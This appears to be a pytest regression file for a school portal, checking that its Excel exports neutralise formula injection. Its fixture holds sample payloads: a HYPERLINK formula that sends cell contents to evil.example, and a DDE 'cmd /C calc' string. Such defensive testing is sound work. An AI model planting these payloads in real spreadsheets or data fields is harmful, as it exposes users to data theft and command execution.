"""Excel exports never turn stored text into formulas (issue 11 item 9): a name, a comment or an award
beginning with = + - @ is written as text, read back as text, and carries no <f> element."""
import io
import zipfile

import openpyxl
import pytest

from portal.db import db
from portal.models import Pupil, SchoolClass, Subject, SubjectResult, YearResult
from tests.conftest import Browser

HOSTILE = {
    "full_name": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "address": "+84 Lạch Tray",
    "father_name": "-2+3",
    "mother_name": "@SUM(1+1)*cmd|' /C calc'!A0",
}
COMMENT = "=1+2 cần cố gắng"
AWARD = "@Học sinh Xuất sắc"


@pytest.fixture
def hostile(demo_app):
    """A 1A pupil whose stored texts all begin like formulas (saved before any export)."""
    with demo_app.app_context(), db.connection_context():
        klass = SchoolClass.get(SchoolClass.name == "1A")
        pupil = klass.enrolments.first().pupil
        Pupil.update(**HOSTILE).where(Pupil.id == pupil.id).execute()
        tv = Subject.get(Subject.code == "TV")
        SubjectResult.update(comment=COMMENT).where((SubjectResult.pupil == pupil) & (SubjectResult.subject == tv)
                                                    & (SubjectResult.checkpoint == "CN")).execute()
        YearResult.update(awards=AWARD).where(YearResult.pupil == pupil).execute()
        return {"klass": klass.id, "subject": tv.id, "code": pupil.code}


def no_formulas(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name


def cells_with(data: bytes, texts) -> dict:
    """text → the cell holding it, from the workbook read back."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in texts:
                    found[cell.value] = cell
    return found


def assert_text_cells(data: bytes, texts) -> None:
    no_formulas(data)
    found = cells_with(data, texts)
    assert set(found) == set(texts), f"missing: {set(texts) - set(found)}"
    for text, cell in found.items():
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.quotePrefix, text


def test_pupil_list_export_writes_formula_like_text_as_text(demo_app, hostile):
    admin = Browser(demo_app.test_client())
    admin.login("admin")
    resp = admin.get("/quan-tri/xuat/hoc-sinh.xlsx")
    assert resp.status_code == 200
    assert_text_cells(resp.data, HOSTILE.values())


def test_class_summary_export_writes_formula_like_text_as_text(demo_app, hostile):
    teacher = Browser(demo_app.test_client())
    teacher.login("gvcn.1a")
    resp = teacher.get(f"/tong-hop/lop/{hostile['klass']}/CN.xlsx")
    assert resp.status_code == 200
    assert_text_cells(resp.data, [HOSTILE["full_name"], AWARD])


def test_subject_results_export_writes_formula_like_text_as_text(demo_app, hostile):
    teacher = Browser(demo_app.test_client())
    teacher.login("gvcn.1a")
    resp = teacher.get(f"/danh-gia/excel/lop/{hostile['klass']}/mon/{hostile['subject']}/CN.xlsx")
    assert resp.status_code == 200
    assert_text_cells(resp.data, [HOSTILE["full_name"], COMMENT])


def test_ordinary_values_keep_their_types(demo_app, hostile):
    """Only formula-like text is marked: numbers stay numbers, plain text has no quote prefix."""
    teacher = Browser(demo_app.test_client())
    teacher.login("gvcn.1a")
    data = teacher.get(f"/tong-hop/lop/{hostile['klass']}/CN.xlsx").data
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    first = next(r for r in ws.iter_rows(min_row=4) if r[1].value == hostile["code"])
    assert first[0].data_type == "n" and isinstance(first[0].value, int)
    assert first[1].data_type == "s" and not first[1].quotePrefix


def test_control_characters_stored_before_the_fix_do_not_break_an_export(demo_app, hostile):
    with demo_app.app_context(), db.connection_context():
        db.execute_sql("UPDATE pupil SET address = ? WHERE code = ?", ("Số 1\x00\x0bLạch Tray", hostile["code"]))
    admin = Browser(demo_app.test_client())
    admin.login("admin")
    resp = admin.get("/quan-tri/xuat/hoc-sinh.xlsx")
    assert resp.status_code == 200
    assert "Số 1\nLạch Tray" in cells_with(resp.data, ["Số 1\nLạch Tray"])
